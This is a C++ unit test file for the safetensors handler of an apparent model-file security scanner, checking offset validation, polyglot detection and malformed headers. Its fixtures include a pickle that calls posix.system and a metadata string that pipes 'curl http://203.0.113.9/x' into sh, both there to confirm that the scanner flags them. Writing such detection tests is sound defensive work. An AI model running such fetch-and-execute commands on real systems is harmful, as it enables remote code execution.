#include <gtest/gtest.h>

#include "format_test_support.hpp"
#include "hubguard/scan/engine.hpp"
#include "hubguard/scan/formats/formats.hpp"

namespace hubguard::scan {
namespace {

using report::Verdict;
using testing::artifact_of;
using testing::FormatContext;
using testing::make_safetensors;

const char* kTwoTensors =
    R"({"__metadata__":{"format":"pt"},)"
    R"("a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,16]},)"
    R"("b":{"dtype":"BF16","shape":[3],"data_offsets":[16,22]}})";

FormatContext scan(const std::string& file) {
  FormatContext ctx;
  const auto a = artifact_of(file);
  EXPECT_TRUE(safetensors_handler().accepts(a));
  safetensors_handler().scan(a, ctx);
  return ctx;
}

TEST(Safetensors, WellFormedFileIsCleanWithNoFindings) {
  auto ctx = scan(make_safetensors(kTwoTensors, std::string(22, '\x01')));
  EXPECT_TRUE(ctx.errors.empty()) << ctx.dump();
  EXPECT_TRUE(ctx.findings.empty()) << ctx.dump();
  EXPECT_TRUE(ctx.children.empty());
}

TEST(Safetensors, HeaderPaddedWithSpacesAndSubByteDtypesAreAccepted) {
  std::string header = R"({"q":{"dtype":"F4","shape":[4,3],"data_offsets":[0,6]}})";
  header.append(6, ' ');
  auto ctx = scan(make_safetensors(header, std::string(6, '\0')));
  EXPECT_TRUE(ctx.errors.empty()) << ctx.dump();
  EXPECT_TRUE(ctx.findings.empty()) << ctx.dump();
}

TEST(Safetensors, IsDetectedByContentThroughTheEngine) {
  const std::string file = make_safetensors(kTwoTensors, std::string(22, '\x01'));
  auto r = scan_bytes(as_bytes(file), "weights.bin", {});
  EXPECT_EQ(r.format, "safetensors");
  EXPECT_EQ(r.verdict, Verdict::clean);
}

TEST(Safetensors, RejectsWhatIsNotSafetensors) {
  EXPECT_FALSE(safetensors_handler().accepts(artifact_of("\x80\x04\x95")));
  std::string huge;
  testing::put_le(huge, 1ULL << 40, 8);
  EXPECT_FALSE(safetensors_handler().accepts(artifact_of(huge + "{}")));
  // Header not starting with '{'.
  EXPECT_FALSE(safetensors_handler().accepts(artifact_of(make_safetensors("[1,2]", ""))));
}

TEST(Safetensors, SizeThatDisagreesWithShapeIsReported) {
  auto ctx = scan(make_safetensors(R"({"a":{"dtype":"F32","shape":[2,2],"data_offsets":[0,12]}})",
                                   std::string(12, '\0')));
  EXPECT_TRUE(ctx.has_rule("safetensors.bad-offsets")) << ctx.dump();
}

TEST(Safetensors, OverlapOutOfRangeAndReversedOffsetsAreReported) {
  auto overlap = scan(make_safetensors(
      R"({"a":{"dtype":"U8","shape":[8],"data_offsets":[0,8]},"b":{"dtype":"U8","shape":[8],"data_offsets":[4,12]}})",
      std::string(12, '\0')));
  ASSERT_TRUE(overlap.has_rule("safetensors.bad-offsets")) << overlap.dump();
  EXPECT_NE(overlap.rule("safetensors.bad-offsets")->evidence.find("overlaps"), std::string::npos);
  auto out_of_range = scan(make_safetensors(
      R"({"a":{"dtype":"U8","shape":[64],"data_offsets":[0,64]}})", std::string(8, '\0')));
  EXPECT_TRUE(out_of_range.has_rule("safetensors.bad-offsets")) << out_of_range.dump();
  auto reversed = scan(make_safetensors(
      R"({"a":{"dtype":"U8","shape":[0],"data_offsets":[8,0]}})", std::string(8, '\0')));
  EXPECT_TRUE(reversed.has_rule("safetensors.bad-offsets")) << reversed.dump();
}

TEST(Safetensors, TrailingBytesAreHandedOnAndTheirPickleIsFound) {
  const std::string pickle = "cposix\nsystem\n(S'echo hubguard-fixture'\ntR.";
  const std::string file = make_safetensors(kTwoTensors, std::string(22, '\x01') + pickle);
  auto ctx = scan(file);
  EXPECT_TRUE(ctx.has_rule("safetensors.trailing-data")) << ctx.dump();
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].bytes.size(), pickle.size());
  auto r = scan_bytes(as_bytes(file), "model.safetensors", {});
  EXPECT_GE(r.verdict, Verdict::dangerous);
}

TEST(Safetensors, GapsBetweenTensorsAreReported) {
  auto ctx = scan(make_safetensors(
      R"({"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]},"b":{"dtype":"U8","shape":[4],"data_offsets":[132,136]}})",
      std::string(136, 'x')));
  EXPECT_TRUE(ctx.has_rule("safetensors.gap")) << ctx.dump();
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].bytes.size(), 128u);
}

TEST(Safetensors, ZipHiddenInTheDataSectionIsAPolyglot) {
  // An empty zip (just its end record) as the tensor's bytes: zip readers see an archive.
  const std::string eocd("PK\x05\x06" + std::string(18, '\0'));
  auto ctx = scan(make_safetensors(R"({"z":{"dtype":"U8","shape":[22],"data_offsets":[0,22]}})", eocd));
  EXPECT_TRUE(ctx.has_rule("safetensors.polyglot")) << ctx.dump();
  EXPECT_EQ(ctx.children.size(), 1u);
}

TEST(Safetensors, MetadataWithCodeOrUrlsIsReported) {
  auto ctx = scan(make_safetensors(
      R"J({"__metadata__":{"loader":"import os; os.system('curl http://203.0.113.9/x | sh')","home":"see https://example.org/model"}})J",
      ""));
  EXPECT_TRUE(ctx.errors.empty()) << ctx.dump();
  EXPECT_TRUE(ctx.has_rule("safetensors.metadata-code")) << ctx.dump();
  ASSERT_EQ(ctx.code.size(), 1u);
  EXPECT_EQ(ctx.code[0].kind, CodeKind::code_string);
  const auto* url = ctx.rule("safetensors.metadata-url");
  ASSERT_NE(url, nullptr);
  ASSERT_FALSE(url->indicators.empty());
  EXPECT_EQ(url->indicators[0].value, "https://example.org/model");
  EXPECT_EQ(url->verdict, Verdict::clean);
}

TEST(Safetensors, MalformedHeadersAreUnscannable) {
  for (const std::string& header :
       {std::string(R"({"a":{"dtype":"F32","shape":[1]}})"),                      // no offsets
        std::string(R"({"a":{"dtype":"Q9","shape":[1],"data_offsets":[0,4]}})"),  // unknown dtype
        std::string(R"({"a":{"dtype":"F32","shape":[-1],"data_offsets":[0,4]}})"),
        std::string(R"({"a":{"dtype":"F32","shape":[4294967296,4294967296,16],"data_offsets":[0,4]}})"),
        std::string(R"({"__metadata__":{"k":1}})"),                               // non-string metadata
        std::string(R"({"a":)"),                                                  // truncated JSON
        std::string(100000, '[')}) {
    std::string h = header;
    if (h.front() != '{') h = "{\"x\":" + h;
    auto ctx = scan(make_safetensors(h, std::string(4, '\0')));
    EXPECT_FALSE(ctx.errors.empty()) << "accepted: " << header.substr(0, 60);
  }
}

TEST(Safetensors, TruncatedFileIsNeverClean) {
  const std::string file = make_safetensors(kTwoTensors, std::string(22, '\x01'));
  for (std::size_t cut = 9; cut < file.size(); cut += 7) {
    const std::string part = file.substr(0, cut);
    auto r = scan_bytes(as_bytes(part), "cut.safetensors", {});
    EXPECT_NE(r.verdict, Verdict::clean) << "cut at " << cut;
  }
}

}  // namespace
}  // namespace hubguard::scan
